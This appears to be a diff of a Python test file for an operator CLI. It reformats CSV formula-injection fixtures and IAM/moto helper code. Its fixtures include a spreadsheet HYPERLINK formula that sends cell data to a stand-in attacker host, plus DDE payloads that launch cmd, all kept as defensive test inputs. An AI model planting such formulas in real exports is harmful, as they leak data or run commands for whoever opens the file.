@@ -23,7 +23,7 @@ from tests.support.samples import API_KEY
 AREA = "Operator CLI"
 # Prompts that a spreadsheet opening the CSV would read as formulas (OWASP's list of first characters).
 FORMULAS = {
-    "csv-equals": "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")",
+    "csv-equals": '=HYPERLINK("http://attacker.example/?"&A1,"open")',
     "csv-plus": "+1+cmd|' /C calc'!A0",
     "csv-minus": "-2+3",
     "csv-at": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -95,13 +95,13 @@ def test_verify_deep_reports_a_file_in_an_archive_storage_class_and_goes_on(cli:
 
 def _set_auth(cli: Cli, unauthenticated_calls: str) -> None:
     """moto's switch for enforcing IAM policies: "0" enforces from now on, "inf" never."""
-    request = urllib.request.Request(  # noqa: S310 - the embedded AWS on loopback
+    request = urllib.request.Request(
         f"{cli.moto.endpoint}/moto-api/reset-auth",
         data=unauthenticated_calls.encode(),
         method="POST",
         headers={"Content-Type": "application/json"},
     )
-    with urllib.request.urlopen(request, timeout=5):  # noqa: S310
+    with urllib.request.urlopen(request, timeout=5):
         pass
 
 
@@ -123,7 +123,11 @@ def _operator_with_only_get_object(cli: Cli, denied_key: str) -> dict[str, str]:
     }
     iam.put_user_policy(UserName="auditor", PolicyName="verify", PolicyDocument=json.dumps(policy))
     key = iam.create_access_key(UserName="auditor")["AccessKey"]
-    return {"AWS_ACCESS_KEY_ID": key["AccessKeyId"], "AWS_SECRET_ACCESS_KEY": key["SecretAccessKey"], "AWS_SESSION_TOKEN": ""}
+    return {
+        "AWS_ACCESS_KEY_ID": key["AccessKeyId"],
+        "AWS_SECRET_ACCESS_KEY": key["SecretAccessKey"],
+        "AWS_SESSION_TOKEN": "",
+    }
 
 
 @pytest.mark.fault(
